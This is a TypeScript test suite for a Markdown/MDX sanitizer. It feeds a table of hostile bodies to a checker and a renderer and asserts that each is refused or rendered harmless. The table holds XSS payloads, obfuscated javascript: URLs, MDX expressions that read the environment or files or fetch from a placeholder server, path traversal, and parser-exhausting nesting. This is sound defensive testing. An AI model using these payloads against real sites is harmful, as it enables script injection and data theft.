/**
 * Bodies that want to run, to read, to write, to call home, to lead astray or to wear out: what `check` says of each, and
 * that nothing of it comes through where nobody checked.
 */
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout } from 'node:timers/promises';
import fc from 'fast-check';
import type { Nodes } from 'hast';
import { htmlToHast } from 'satteri';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { checkBody } from '../../src/reader/check-body.ts';
import { imagesIn, plainBody } from '../../src/reader/markdown.ts';
import { renderBody } from '../../src/reader/render-body.ts';
import { context, known } from '../support/body.ts';
import { check } from '../support/check.ts';

/** The rule and the place of the first problem; null where what looks hostile is plain text, and is shown as that. */
type Row = [what: string, ending: 'md' | 'mdx', body: string, problem: string | null];

/** SERVER, READ and WRITE stand for a server and two files that nothing may touch. */
const HOSTILE: Row[] = [
  // code of MDX
  ['an import of code', 'mdx', "import run from './evil.mjs'\n\na", 'markdown/code 1:1'],
  ['an import for its effects', 'mdx', "import 'READ'", 'markdown/code 1:1'],
  ['an import of data', 'mdx', "import run from 'data:text/javascript,globalThis.canary=1'", 'markdown/code 1:1'],
  ['an import over the network', 'mdx', "import run from 'SERVER/evil.mjs'", 'markdown/code 1:1'],
  ['an import that is called', 'mdx', "{await import('SERVER/evil.mjs')}", 'markdown/code 1:1'],
  ['an export', 'mdx', 'export const a = process.env.CLAIMLINE_CANARY', 'markdown/code 1:1'],
  ['an export with effects', 'mdx', "export const a = require('fs').writeFileSync('WRITE', 'x')", 'markdown/code 1:1'],
  ['an export of a layout', 'mdx', "export { default as default } from './layout.mjs'", 'markdown/code 1:1'],
  ['an export of getStaticPaths', 'mdx', 'export const getStaticPaths = () => fetch("SERVER")', 'markdown/code 1:1'],
  ['an expression that reads the environment', 'mdx', 'a {process.env.CLAIMLINE_CANARY} b', 'markdown/code 1:3'],
  ['an expression on lines of its own', 'mdx', '{\n  process.env.CLAIMLINE_CANARY\n}', 'markdown/code 1:1'],
  ['an expression that reads a file', 'mdx', "{require('node:fs').readFileSync('READ', 'utf8')}", 'markdown/code 1:1'],
  [
    'an expression that writes a file',
    'mdx',
    "{process.getBuiltinModule('node:fs').writeFileSync('WRITE', 'x')}",
    'markdown/code 1:1',
  ],
  ['an expression that asks a server', 'mdx', "{fetch('SERVER/expression')}", 'markdown/code 1:1'],
  [
    'a constructor by way of a text',
    'mdx',
    "{''.constructor.constructor('return process')().exit()}",
    'markdown/code 1:1',
  ],
  ['a comment of MDX', 'mdx', '{/* a note */}', 'markdown/code 1:1'],
  ['an expression in a heading', 'mdx', '# a {process.exit(1)}', 'markdown/code 1:5'],
  ['an expression in a link', 'mdx', '[{process.exit(1)}](https://example.org/)', 'markdown/code 1:2'],
  ['an expression in a table', 'mdx', '| a |\n|---|\n| {process.exit(1)} |', 'markdown/code 3:3'],
  ['an expression in a note', 'mdx', 'a[^b]\n\n[^b]: {process.exit(1)}', 'markdown/code 3:7'],
  ['an expression that never ends', 'mdx', 'a { b', 'markdown/code 1:3'],
  ['a template of text', 'mdx', '{`${process.env.CLAIMLINE_CANARY}`}', 'markdown/code 1:1'],
  ['an expression for an attribute', 'mdx', '<Claim id={process.env.CLAIMLINE_CANARY}/>', 'markdown/component 1:11'],
  ['a template for an attribute', 'mdx', '<Claim id={`cars`}/>', 'markdown/component 1:11'],
  ['a spread', 'mdx', '<Claim {...process.env}/>', 'markdown/component 1:8'],
  ['a spread beside a value', 'mdx', '<Claim id="cars" {...{onClick: run}}/>', 'markdown/component 1:18'],
  ['an element for an attribute', 'mdx', '<Claim id=<b>a</b> />', 'markdown/code 1:1'],
  ['a component that is not ours', 'mdx', '<Fragment set:html="<script>run()</script>"/>', 'markdown/component 1:1'],
  ['a member of an object', 'mdx', '<process.env.CLAIMLINE_CANARY/>', 'markdown/html 1:1'],
  ['a name with a colon', 'mdx', '<astro:fragment/>', 'markdown/html 1:1'],
  ['a fragment', 'mdx', '<>a</>', 'markdown/code 1:1'],
  ['a directive of Astro', 'mdx', '<Claim id="cars" client:load/>', 'markdown/component 1:1'],
  [
    'markup set by an attribute',
    'mdx',
    '<Claim id="cars" set:html="<script>run()</script>"/>',
    'markdown/component 1:28',
  ],
  ['a component with content', 'mdx', '<Claim id="cars"><script>run()</script></Claim>', 'markdown/component 1:1'],
  ['a component in a quotation', 'mdx', '> <Claim id="cars"/>', 'markdown/component 1:3'],
  ['a layout in the text', 'mdx', '---\nlayout: ./evil.mjs\n---', null],
  ['a layout in the text of Markdown', 'md', '---\nlayout: data:text/javascript,run()\nslug: another\n---', null],
  ['an element of MDX', 'mdx', '<script>run()</script>', 'markdown/html 1:1'],
  ['a handler in MDX', 'mdx', '<b onClick={() => run()}>a</b>', 'markdown/html 1:1'],
  ['a style in MDX', 'mdx', '<p style={{background: "url(SERVER)"}}>a</p>', 'markdown/html 1:1'],
  ['an HTML comment in MDX', 'mdx', '<!-- a -->', 'markdown/code 1:1'],
  // HTML
  ['a script', 'md', '<script>run()</script>', 'markdown/html 1:1'],
  ['a script from a server', 'md', '<script src="SERVER/evil.js"></script>', 'markdown/html 1:1'],
  ['a script in odd letters', 'md', 'a <ScRiPt/x>run()</sCrIpT> b', 'markdown/html 1:18'],
  ['a script split by a line', 'md', '<scr\nipt>run()</script>', 'markdown/html 1:1'],
  ['a handler', 'md', '<img src=x onerror=run()>', 'markdown/html 1:1'],
  ['a handler inside text', 'md', 'a <b onmouseover="run()">b</b> c', 'markdown/html 1:3'],
  ['a frame', 'md', '<iframe srcdoc="<script>run()</script>"></iframe>', 'markdown/html 1:1'],
  ['an object', 'md', '<object data="SERVER/evil.swf"></object>', 'markdown/html 1:1'],
  ['a form', 'md', '<form action="SERVER"><input name=a autofocus onfocus=run()></form>', 'markdown/html 1:1'],
  ['a style sheet', 'md', '<style>@import url(SERVER/evil.css);</style>', 'markdown/html 1:1'],
  ['a link to a style sheet', 'md', '<link rel=stylesheet href="SERVER/evil.css">', 'markdown/html 1:1'],
  ['a page that reloads', 'md', '<meta http-equiv=refresh content="0;url=SERVER">', 'markdown/html 1:1'],
  ['another base', 'md', '<base href="SERVER/">', 'markdown/html 1:1'],
  ['a drawing with a script', 'md', '<svg><script>run()</script></svg>', 'markdown/html 1:1'],
  ['a drawing with a handler', 'md', '<svg onload=run()>', 'markdown/html 1:1'],
  [
    'a drawing that leads astray',
    'md',
    '<svg><a xlink:href="javascript:run()"><text>a</text></a></svg>',
    'markdown/html 1:1',
  ],
  ['a formula with a link', 'md', '<math href="javascript:run()">a</math>', 'markdown/html 1:1'],
  [
    'a formula that hides a style',
    'md',
    '<math><mtext><table><mglyph><style><img src=x onerror=run()></style></mglyph></table></mtext></math>',
    'markdown/html 1:1',
  ],
  ['a template', 'md', '<template><script>run()</script></template>', 'markdown/html 1:1'],
  [
    'what only browsers without scripts read',
    'md',
    '<noscript><p title="</noscript><img src=x onerror=run()>"></noscript>',
    'markdown/html 1:1',
  ],
  ['a comment', 'md', '<!-- a -->', 'markdown/html 1:1'],
  ['a comment that hides an element', 'md', '<!--><script>run()</script>-->', 'markdown/html 1:1'],
  ['character data', 'md', '<![CDATA[<script>run()</script>]]>', 'markdown/html 1:1'],
  ['a processing instruction', 'md', '<?php run() ?>', 'markdown/html 1:1'],
  ['a declaration', 'md', '<!DOCTYPE html [<!ENTITY a SYSTEM "file://READ">]>', 'markdown/html 1:1'],
  ['a closing tag', 'md', 'a </main> b', 'markdown/html 1:3'],
  ['an element that is not closed', 'md', 'a <b b', null],
  ['markup by character references', 'md', '&lt;script&gt;run()&lt;/script&gt;', null],
  ['markup in code', 'md', '`<script>run()</script>`\n\n```html\n<script>run()</script>\n```', null],
  ['a language of code', 'md', '```"onmouseover="run()\na\n```', null],
  // addresses
  ['a script as address', 'md', '[a](javascript:run())', 'markdown/link 1:1'],
  ['a script as address, in odd letters', 'md', '[a](jAvAsCrIpT:run())', 'markdown/link 1:1'],
  ['a script as address, by a reference', 'md', '[a](javascript&colon;run())', 'markdown/link 1:1'],
  ['a script as address, by numbers', 'md', '[a](&#106;&#x61;vascript:run())', 'markdown/link 1:1'],
  ['a script as address, with a tab', 'md', '[a](java&Tab;script:run())', 'markdown/link 1:1'],
  ['a script as address, with a new line', 'md', '[a](java&NewLine;script:run())', 'markdown/link 1:1'],
  ['a script as address, after a control character', 'md', '[a](&#1;javascript:run())', 'markdown/link 1:1'],
  ['a script as address, escaped', 'md', '[a](javascript\\:run())', 'markdown/link 1:1'],
  ['a script as address, between angles', 'md', '[a](<javascript:run()>)', 'markdown/link 1:1'],
  ['a script as address, percent-encoded', 'md', '[a](javascript%3Arun())', 'markdown/link 1:1'],
  ['a script as address, by itself', 'md', '<javascript:run()>', 'markdown/link 1:1'],
  ['a script as address, by definition', 'md', '[a]\n\n[a]: javascript:run()', 'markdown/link 3:1'],
  [
    'a script as address, around a picture',
    'md',
    '[![a](../images/bridge.png "b")](javascript:run())',
    'markdown/link 1:1',
  ],
  ['an older script as address', 'md', '[a](vbscript:run())', 'markdown/link 1:1'],
  ['data as address', 'md', '[a](data:text/html;base64,PHNjcmlwdD4=)', 'markdown/link 1:1'],
  ['a file as address', 'md', '[a](file://READ)', 'markdown/link 1:1'],
  ['an address of any host', 'md', '[a](//example.org/)', 'markdown/link 1:1'],
  ['an address with a backslash', 'md', '[a](https:/\\\\example.org/)', 'markdown/link 1:1'],
  ['an address with a name and a password', 'md', '[a](https://user:secret@example.org/)', 'markdown/link 1:1'],
  ['an address that pretends a host', 'md', '[a](https://example.org\\\\@evil.example/)', 'markdown/link 1:1'],
  ['an address that turns the text around', 'md', '[a](https://example.org/\u202egpj.exe)', 'markdown/link 1:1'],
  ['a mail', 'md', '[a](mailto:desk@example.org?bcc=all@example.org)', 'markdown/link 1:1'],
  ['a path of the site', 'md', '[a](../../../etc/passwd)', 'markdown/link 1:1'],
  ['an anchor of the page', 'md', '[a](#main)', 'markdown/link 1:1'],
  ['a link to an id with markup', 'md', '[a](claim:"><script>run()</script>)', 'reference/unknown 1:1'],
  ['a link to an id of another page', 'md', '[a](claim:../../evil)', 'reference/unknown 1:1'],
  ['a title with markup', 'md', '[a](https://example.org/ "\\" onmouseover=\\"run()")', null],
  ['a bare address with markup', 'md', 'https://example.org/"onmouseover="run()', null],
  ['a bare address with a script', 'md', 'www.example.org/<script>run()</script>', 'markdown/html 1:17'],
  // pictures
  ['a picture of a server', 'md', '![a](SERVER/pixel.png "b")', 'markdown/image 1:1'],
  ['a picture of a server, by definition', 'md', '![a][b]\n\n[b]: SERVER/pixel.png', 'markdown/image 1:1'],
  ['a picture as a script', 'md', '![a](javascript:run() "b")', 'markdown/image 1:1'],
  ['a picture as data', 'md', '![a](data:image/svg+xml,<svg/onload=run()> "b")', 'markdown/image 1:1'],
  ['a picture as a module', 'mdx', '![a](./evil.js "b")', 'markdown/image 1:1'],
  ['a picture outside of the folder', 'md', '![a](../images/../../../etc/passwd "b")', 'markdown/image 1:1'],
  ['a picture by way of percent signs', 'md', '![a](../images/%2e%2e/tracker.yaml "b")', 'markdown/image 1:1'],
  ['a picture that is not there', 'md', '![a](../images/evil.png "b")', 'reference/unknown 1:1'],
  [
    'a picture with markup in its words',
    'md',
    '![a" onerror="run()](../images/bridge.png "b\\" onerror=\\"run()")',
    null,
  ],
  ['a picture inside a link', 'md', '[![a](../images/bridge.png "b")](https://example.org/)', 'markdown/image 1:2'],
  // components by lines
  ['a component that is not ours, by a line', 'md', '::script{src="SERVER/evil.js"}', 'markdown/component 1:1'],
  ['a handler on a component', 'md', '::claim{id="cars" onclick="run()"}', 'markdown/component 1:28'],
  ['a component with markup', 'md', '::claim{id="<script>run()</script>"}', 'reference/unknown 1:13'],
  ['a component with an expression', 'md', '::claim{id={process.env.CLAIMLINE_CANARY}}', 'markdown/component 1:1'],
  ['a component with a path', 'md', '::statement{id="../../evil/x"}', 'markdown/component 1:17'],
  ['a component of the prototype', 'md', '::constructor{id="cars"}', 'markdown/component 1:1'],
  ['an attribute of the prototype', 'md', '::claim{__proto__="cars"}', 'markdown/component 1:20'],
  ['a container', 'md', ':::claim{id="cars"}\n<script>run()</script>\n:::', 'markdown/component 1:1'],
  // notes
  ['a note with markup in its name', 'md', 'a[^"><script>]\n\n[^"><script>]: b', null],
  ['a note that calls itself', 'md', '[^a]\n\n[^a]: b[^a]', null],
  ['a note with the name of an anchor', 'md', 'a[^../main]\n\n[^../main]: b', null],
  ['a note with a script', 'md', 'a[^b]\n\n[^b]: <script>run()</script>', 'markdown/html 3:7'],
  // size and shape
  ['quotations without end', 'md', '>'.repeat(50_000), 'markdown/depth 1:1'],
  ['lists without end', 'md', '- '.repeat(50_000), 'markdown/depth 1:1'],
  ['items without end', 'md', '-\n'.repeat(90_000), 'markdown/depth 1:1'],
  ['emphasis without end', 'md', '*a **b '.repeat(1400) + 'x' + '** y* '.repeat(1400), 'markdown/depth 1:6600'],
  ['strong words without end', 'md', '__a'.repeat(60_000), 'markdown/depth 1:1'],
  ['brackets without end', 'md', '['.repeat(19_000), null],
  ['pictures without end', 'md', '!['.repeat(9000), null],
  ['braces without end', 'mdx', '{'.repeat(100_000), 'markdown/depth 1:33'],
  ['tags without end', 'mdx', '<div>\n'.repeat(30_000), 'markdown/depth 33:1'],
  [
    'a table without end',
    'md',
    `${'|a'.repeat(3000)}\n${'|-'.repeat(3000)}\n${'|b\n'.repeat(2000)}`,
    'markdown/depth 1:1',
  ],
  ['one word without end', 'md', 'a'.repeat(150_000), 'markdown/depth 1:1'],
  ['a null', 'md', 'a \u0000 b <\u0000script>run()</script>', 'markdown/html 1:21'],
  ['control characters', 'md', 'a \u0001\u001b[31m\u007f b', null],
  ['half a pair of characters', 'md', 'a \ud800 b [c](https://example.org/\ud800)', null],
  ['a link that is not closed', 'md', '[a](https://example.org/', null],
  ['a component that is not closed', 'mdx', '<Claim id="cars"', 'markdown/code 1:1'],
  ['a quotation mark that is not closed', 'mdx', '<Claim id="cars/>', 'markdown/code 1:1'],
];

const SECRET = 'canary-of-the-environment';
const CONTENT = 'canary-of-the-file';
const folder = mkdtempSync(join(tmpdir(), 'hostile-'));
const read = join(folder, 'read.txt');
const write = join(folder, 'written.txt');
let requests = 0;
const server = createServer((_, response) => {
  requests += 1;
  response.end('globalThis.canary = 1');
});

beforeAll(async () => {
  process.env['CLAIMLINE_CANARY'] = SECRET;
  writeFileSync(read, CONTENT);
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
});

afterAll(() => {
  delete process.env['CLAIMLINE_CANARY'];
  server.close();
  rmSync(folder, { recursive: true });
});

const armed = (body: string): string =>
  body
    .replaceAll('SERVER', `http://127.0.0.1:${(server.address() as AddressInfo).port}`)
    .replaceAll('READ', read)
    .replaceAll('WRITE', write);

/** What HTML of a body may be made of, apart from what the renderer itself lists. */
const ELEMENTS = new Set(
  ['p', 'em', 'strong', 'del', 'br', 'hr', 'blockquote', 'ul', 'ol', 'li', 'code', 'pre', 'a', 'sup'].concat([
    'h2',
    'h3',
    'h4',
    'h5',
    'h6',
    'table',
    'thead',
    'tbody',
    'tr',
    'th',
    'td',
    'div',
    'figure',
    'figcaption',
    'img',
  ]),
);
const ATTRIBUTES: Record<string, RegExp> = {
  href: /^(?:https?:\/\/[^/@\\]+(?:[/?#][^\\]*)?|\/base\/(?:actors|claims|articles)\/[a-z0-9-]+\/|#note_.*)$/i,
  src: /^\/base\/images\/bridge\.png$/,
  id: /^note_/,
  ariaDescribedBy: /^note_label$/,
  ariaLabel: /^(?:Table|Back to .*)$/,
  className: /^(?:scroll|notes|hidden|picture|center|right)$/,
  role: /^group$/,
  tabIndex: /^0$/,
  scope: /^col$/,
  start: /^\d+$/,
  width: /^640$/,
  height: /^480$/,
  alt: /^/,
  rel: /^nofollow noreferrer$/,
  loading: /^lazy$/,
  decoding: /^async$/,
};

/** What a browser would find in HTML that may not be there. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  const open: Nodes[] = [htmlToHast(html, { fragment: true }) as Nodes];
  for (let node = open.pop(); node; node = open.pop()) {
    if (node.type === 'element') {
      if (!ELEMENTS.has(node.tagName)) dangers.push(`<${node.tagName}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        if (!ATTRIBUTES[name]?.test([value].flat().join(' '))) dangers.push(`${name}="${String(value)}"`);
      }
    } else if (node.type !== 'root' && node.type !== 'text') dangers.push(node.type);
    if ('children' in node) open.push(...node.children);
  }
  return dangers;
}

/** What a body becomes without a check: HTML, and attributes of components. */
function unchecked(body: string, ending: string): { html: string; values: string[] } {
  const { blocks } = renderBody(body, `articles/gates-down.${ending}`, context);
  return {
    html: blocks.map((block) => (block.type === 'html' ? block.html : '')).join('\n'),
    values: blocks.flatMap((block) => (block.type === 'component' ? Object.values(block.attributes) : [])),
  };
}

test.each([
  ['<p onclick="run()">a</p>', ['onClick="run()"']],
  ['<script>run()</script>', ['<script>']],
  ['<a href="javascript:run()">a</a>', ['href="javascript:run()"']],
  ['<a href="https://user@example.org/">a</a>', ['href="https://user@example.org/"']],
  ['<!-- a -->', ['comment']],
])('the judge sees through %s', (html, dangers) => {
  expect(dangersIn(html)).toEqual(dangers);
});

test('no two rows are the same, and there are enough', () => {
  expect(new Set(HOSTILE.map(([, ending, body]) => `${ending} ${body}`)).size).toBe(HOSTILE.length);
  expect(HOSTILE.filter(([, , , problem]) => problem !== null).length).toBeGreaterThan(60);
});

describe.each(HOSTILE)('%s (%s)', (_, ending, hostile, problem) => {
  test('is refused, or is plain text', () => {
    const [first] = checkBody({ text: armed(hostile), lineOffset: 0 }, `articles/gates-down.${ending}`, known);
    const place = first?.span?.start;
    expect(first ? `${first.rule} ${place?.line}:${place?.column}` : null).toBe(problem);
  });

  test('is safe where nobody checked', () => {
    const { html, values } = unchecked(armed(hostile), ending);
    expect(dangersIn(html)).toEqual([]);
    for (const value of values) expect(value).toMatch(/^[\w/?~%-]+$/);
    expect(html).not.toContain(SECRET);
    expect(html).not.toContain(CONTENT);
    expect(plainBody(armed(hostile), `articles/gates-down.${ending}`)).not.toContain(SECRET);
  });
});

test('nothing was run, read, written or asked for', async () => {
  await setTimeout(50);
  expect({ requests, written: existsSync(write), run: 'canary' in globalThis }).toEqual({
    requests: 0,
    written: false,
    run: false,
  });
});

/** What else Markdown and MDX know, between the pieces. */
const MARKUP: string[] = [
  '\n',
  '\n\n',
  '> ',
  '- ',
  '1. ',
  '| ',
  '|-|-|\n',
  '    ',
  '`',
  '```\n',
  '*',
  '**',
  '~~',
  '[',
  '](',
  ')',
  '\\',
  '<',
  '{',
  '}',
  '[^b]',
  '\n\n[^b]: ',
  '# ',
  '\n===\n',
  '::claim{id="cars"}',
  '<Claim id="cars"/>',
  '&#x3C;',
  '\u{1F600}',
  '\u2028',
];
const pieces = fc.constantFrom(...HOSTILE.map(([, , body]) => body).filter((body) => body.length < 200), ...MARKUP);

test('any mixture of these is checked without a crash, and safe without a check', () => {
  check(400, fc.tuple(fc.array(pieces, { maxLength: 12 }), fc.constantFrom('md', 'mdx')), ([parts, ending]) => {
    const body = armed(parts.join(''));
    const file = `articles/gates-down.${ending}`;
    for (const { span, found, expected, fix } of checkBody({ text: body, lineOffset: 0 }, file, known)) {
      const line = body.split('\n')[(span?.start.line ?? 0) - 1];
      expect(line, 'the line of a problem').toBeDefined();
      expect(span?.start.column).toBeLessThanOrEqual((line ?? '').length + 1);
      expect([found, expected, fix].every((words) => words !== '')).toBe(true);
    }
    expect(dangersIn(unchecked(body, ending).html)).toEqual([]);
    plainBody(body, file);
    imagesIn(body, file);
  });
});

test('bytes that mean nothing are safe too', () => {
  check(
    200,
    fc.tuple(fc.string({ unit: 'binary', maxLength: 200 }), fc.constantFrom('md', 'mdx')),
    ([body, ending]) => {
      checkBody({ text: body, lineOffset: 0 }, `articles/gates-down.${ending}`, known);
      expect(dangersIn(unchecked(body, ending).html)).toEqual([]);
    },
  );
});
